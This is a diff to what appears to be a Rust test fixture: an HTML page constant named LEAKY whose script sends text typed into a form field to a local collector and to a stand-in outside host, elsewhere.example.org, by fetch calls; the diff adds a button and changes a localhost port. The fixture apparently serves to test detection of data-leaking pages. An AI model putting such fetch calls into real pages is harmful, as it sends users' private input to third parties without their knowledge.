@@ -80,7 +80,7 @@ const BAD: &str = r#"<!doctype html>
 const LEAKY: &str = r#"<!doctype html>
 <html lang="en"><head><meta charset="utf-8"><title>Leaky</title><link rel="icon" href="/good.ico"></head>
 <body><main><h1>Leaky page</h1><form>
-<label for="story">What happened</label> <textarea id="story"></textarea></form>
+<label for="story">What happened</label> <textarea id="story"></textarea> <button type="button">Next</button></form>
 <script>
 document.getElementById("story").addEventListener("change", event => {
     const text = event.target.value;
@@ -88,6 +88,6 @@ document.getElementById("story").addEventListener("change", event => {
     fetch("/collect?q=" + btoa("1" + text), { method: "POST", body: text });
     fetch("http://elsewhere.example.org/" + text, { mode: "no-cors" }).catch(() => {});
     fetch("https://elsewhere.example.org/", { mode: "no-cors" }).catch(() => {});
-    fetch("http://127.0.0.1:9/", { mode: "no-cors" }).catch(() => {});
+    fetch("http://127.0.0.1:4321/", { mode: "no-cors" }).catch(() => {});
 });
 </script></main></body></html>"#;
